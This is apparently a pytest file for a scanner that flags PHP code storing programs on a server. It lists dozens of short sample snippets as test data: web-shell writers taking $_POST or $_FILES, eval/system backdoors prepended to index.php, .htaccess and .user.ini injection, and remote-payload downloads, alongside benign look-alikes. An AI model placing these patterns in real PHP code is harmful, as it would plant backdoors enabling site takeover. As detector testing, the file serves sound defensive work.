"""What a page stores as a program. The samples are ours, and inert."""

from __future__ import annotations

import pytest


@pytest.mark.parametrize(
    ("source", "mark"),
    [
        ("file_put_contents('x.php', $_POST['a']);", "php-writes-request"),
        ("file_put_contents($d . '/x.php', $_POST['a']);", "php-writes-request"),
        ("fwrite(fopen('x.phtml', 'w'), $_POST['a']);", "php-writes-request"),
        ("copy($_FILES['a']['tmp_name'], $_FILES['a']['name']);", "php-writes-request"),
        ("file_put_contents($_FILES['tmp_name']['name'], $_POST['a']);", "php-writes-request"),
        (
            "$p = $_SERVER['DOCUMENT_ROOT'] . '/a.php'; file_put_contents($p, $_POST['a']);",
            "php-writes-request",
        ),
        ("file_put_contents(__FILE__, $_POST['c']);", "php-writes-request"),
        (
            "$h = fopen($_SERVER['SCRIPT_FILENAME'], 'w'); fwrite($h, $_POST['c']);",
            "php-writes-request",
        ),
        (
            "$p = realpath('.') . '/' . $_POST['a']; $h = fopen($p, 'w'); fwrite($h, $_POST['b']);",
            "php-writes-request",
        ),
        (
            (
                "$f = getcwd() . '/' . $_REQUEST['f']; file_put_contents($f, "
                "base64_decode($_REQUEST['c']));"
            ),
            "php-writes-request",
        ),
        ("file_put_contents(\"./$_GET[f]\", $_GET['c']);", "php-writes-request"),
        (
            (
                "$d = __DIR__ . '/'; if ($_COOKIE['k'] === 'x') { file_put_contents($d . "
                "$_GET['f'], $_GET['c']); }"
            ),
            "php-writes-request",
        ),
        ("$o = new SplFileObject('x.php', 'w'); $o->fwrite($_POST['c']);", "php-writes-request"),
        (
            "$o = new \\SplFileObject($_GET['f'], 'w'); $o->fwrite($_GET['c']);",
            "php-writes-request",
        ),
        ("file_put_contents('.htaccess', $_POST['h']);", "php-writes-request"),
        (
            "file_put_contents(__DIR__ . '/../.user.ini', 'auto_prepend_file=' . $_POST['h']);",
            "php-writes-request",
        ),
        ("move_uploaded_file($_FILES['a']['tmp_name'], 'shell.php');", "php-writes-request"),
        ("move_uploaded_file($userfile, 'a.php');", "php-writes-request"),
        ("$t = $d . '/x.phtml'; copy($_FILES['a']['tmp_name'], $t);", "php-writes-request"),
        (
            (
                "class U { function go($f) { move_uploaded_file($f['tmp_name'], "
                "$f['name']); } } (new U)->go($_FILES['x']);"
            ),
            "php-writes-request",
        ),
        ("foreach ($_FILES as $f) { copy($f['tmp_name'], $f['name']); }", "php-writes-request"),
        ("@copy($_GET['u'], $_GET['f']);", "php-writes-request"),
        ("$u = $_POST['from']; copy($u, __DIR__ . '/' . basename($u));", "php-writes-request"),
        (
            "$z = new ZipArchive; $z->open($_FILES['f']['tmp_name']); $z->extractTo('./');",
            "php-writes-request",
        ),
        (
            (
                "$z = new ZipArchive(); if ($z->open($_FILES['z']['tmp_name']) === true) { "
                "$z->extractTo($_POST['d']); }"
            ),
            "php-writes-request",
        ),
        ("(new PharData($_FILES['f']['tmp_name']))->extractTo('.');", "php-writes-request"),
        (
            (
                "$t = 'a.zip'; move_uploaded_file($_FILES['f']['tmp_name'], $t); $z = new "
                "ZipArchive; $z->open($t); $z->extractTo('.');"
            ),
            "php-writes-request",
        ),
        ("copy('http://e.example/x.txt', 'x.php');", "php-runs-remote"),
        ("copy(\"https://e.example/a.txt\", __DIR__ . '/wp-cache.php');", "php-runs-remote"),
        (
            (
                "$u = 'http://e.example/a.txt'; $f = fopen('c.php', 'w'); fwrite($f, "
                "file_get_contents($u));"
            ),
            "php-runs-remote",
        ),
        (
            (
                "$s = $_SERVER['DOCUMENT_ROOT'] . '/a.php'; file_put_contents($s, "
                "curl_exec(curl_init('http://e.example/a')));"
            ),
            "php-runs-remote",
        ),
        (
            (
                "class A { static function get() { copy('ftp://e.example/a', "
                "'inc/a.phtml'); } } A::get();"
            ),
            "php-runs-remote",
        ),
        (
            (
                "$t = tempnam('/tmp', 'x'); file_put_contents($t, "
                "file_get_contents('http://e.example/a')); include $t;"
            ),
            "php-runs-remote",
        ),
        ("file_put_contents('/tmp/x', $_POST['c']); require '/tmp/x';", "php-runs-request"),
        (
            "$f = \"/tmp/$n\"; $h = fopen($f, 'w'); fputs($h, $_POST['c']); include($f);",
            "php-runs-request",
        ),
        (
            (
                "$t = sys_get_temp_dir() . '/s'; file_put_contents($t, '<?php ' . "
                "base64_decode($_COOKIE['c'])); include $t;"
            ),
            "php-runs-request",
        ),
        (
            (
                "$t = tempnam('/tmp', 'x'); fwrite(fopen($t, 'w'), $_POST['c']); @include "
                "$t; unlink($t);"
            ),
            "php-runs-request",
        ),
        ("copy(__FILE__, $d . '/wp-conf.php');", "php-drops-program"),
        ("copy($_SERVER['SCRIPT_FILENAME'], '../images/x.php');", "php-drops-program"),
        (
            (
                "foreach ($l as $d) { file_put_contents($d . '/x.php', "
                "file_get_contents(__FILE__)); }"
            ),
            ("php-drops-program"),
        ),
        (
            (
                "$s = file_get_contents(__FILE__); $h = fopen(\"$d/cache.php\", 'w'); "
                "fwrite($h, $s);"
            ),
            ("php-drops-program"),
        ),
        (
            (
                "$i = file_get_contents('index.php'); file_put_contents('index.php', '<?php "
                "eval($_POST[1]); ?>' . $i);"
            ),
            ("php-drops-program"),
        ),
        (
            (
                "function put($f) { fwrite($f, '<?php system($_GET[1]);' . $x); } "
                "put(fopen($a, 'w'));"
            ),
            ("php-drops-program"),
        ),
        ("file_put_contents('.htaccess', base64_decode($rules));", "php-drops-program"),
        (
            (
                "$p = $d . '/.user.ini'; file_put_contents($p, "
                "gzinflate(base64_decode('S0xKBgA=')));"
            ),
            ("php-drops-program"),
        ),
        (
            (
                "$t = tmpfile(); $m = stream_get_meta_data($t); fwrite($t, $_POST['c']); "
                "include $m['uri'];"
            ),
            ("php-runs-request"),
        ),
        (
            "file_put_contents($_COOKIE['p'], base64_decode(file_get_contents('/tmp/s.tmp')));",
            "php-writes-request",
        ),
        (
            "$h = fopen($_GET['to'], 'w'); fwrite($h, gzinflate(base64_decode('S0xKBgA=')));",
            "php-writes-request",
        ),
    ],
)
def test_points_at(sure, source, mark):
    assert mark in sure(source)


@pytest.mark.parametrize(
    "source",
    [
        "file_put_contents('x.txt', $_POST['a']);",
        "file_put_contents('x.php', $settings);",
        "$p = $_FILES['a']['tmp_name']; file_put_contents($p, $_POST['a']);",
        "session_start(); copy($_FILES['a']['tmp_name'], $_FILES['a']['name']);",
        "file_put_contents($config, '<?php return ' . var_export($_POST, true) . ';');",
        (
            "$p = realpath('.') . '/cache/' . md5($_POST['a']) . '.html'; "
            "file_put_contents($p, $_POST['b']);"
        ),
        "session_start(); file_put_contents($dir . '/' . $_POST['name'], $_POST['content']);",
        "file_put_contents('up/' . md5($_POST['n']) . '.png', base64_decode($_SESSION['png']));",
        "$to = basename($_GET['n']); file_put_contents(\"out/$to.pdf\", base64_decode($pdf));",
        "$id = (int) $_GET['id']; file_put_contents(\"data/$id\", $_POST['b']);",
        "$o = new SplFileObject('data.csv', 'w'); $o->fwrite($_POST['line']);",
        "if (wp_verify_nonce($_POST['n'])) { file_put_contents('.htaccess', $_POST['rules']); }",
        "move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . uniqid() . '.jpg');",
        (
            "if (in_array($e, ['jpg'])) { move_uploaded_file($_FILES['f']['tmp_name'], "
            "$_FILES['f']['name']); }"
        ),
        (
            "class U { function s($f) { move_uploaded_file($f['tmp_name'], "
            "md5($f['name'])); } } (new U)->s($_FILES['x']);"
        ),
        (
            "session_start(); $z = new ZipArchive; $z->open($_FILES['f']['tmp_name']); "
            "$z->extractTo('plugins');"
        ),
        "$z = new ZipArchive; $z->open('backup.zip'); $z->extractTo('./restore');",
        "$z = new ZipArchive; $z->open($_FILES['f']['tmp_name']); echo $z->numFiles;",
        "copy($default . '/settings.default.php', $site . '/settings.php');",
        "copy('https://e.example/logo.png', 'cache/logo.png');",
        (
            "copy('https://e.example/setup', 'setup.php'); if (hash_file('sha384', "
            "'setup.php') !== $sum) { unlink('setup.php'); }"
        ),
        "file_put_contents('cache/feed.xml', file_get_contents('https://e.example/feed'));",
        "$t = tempnam('/tmp', 'tpl'); file_put_contents($t, $engine->compile($name)); include $t;",
        "file_put_contents($c, '<?php return ' . var_export($data, true) . ';'); $x = include $c;",
        "file_put_contents('/tmp/x', $_POST['c']); include 'footer.php';",
        "copy(__FILE__, __FILE__ . '.bak');",
        "copy(__DIR__ . '/object-cache.php', $content . '/object-cache.php'); echo __FILE__;",
        "class P { function activate() { copy(__FILE__, $this->folder . '/loader.php'); } }",
        "file_put_contents($c . '.php', '<?php return ' . $x . ';'); echo $_GET['a'];",
        "file_put_contents('.htaccess', \"Deny from all\\n\"); echo base64_decode($x);",
        (
            "$t = tmpfile(); $m = stream_get_meta_data($t); fwrite($t, $_POST['csv']); "
            "echo filesize($m['uri']);"
        ),
    ],
)
def test_leaves_alone(sure, source):
    assert sure(source) == set()


def test_leaves_alone_a_list_that_is_fetched_and_written_anew(sure):
    source = (
        "$all = json_decode(file_get_contents('https://a.example/db.json'), true);"
        " foreach ($all as $k => $v) { $t .= sprintf('%s => [%s],', $k, implode(',', $v)); }"
        " file_put_contents(__DIR__ . '/Types.php', '<?php return [' . $t . '];');"
    )
    assert sure(source) == set()
    assert sure("file_put_contents('x.php', implode('', file('https://a.example/x')));") != set()
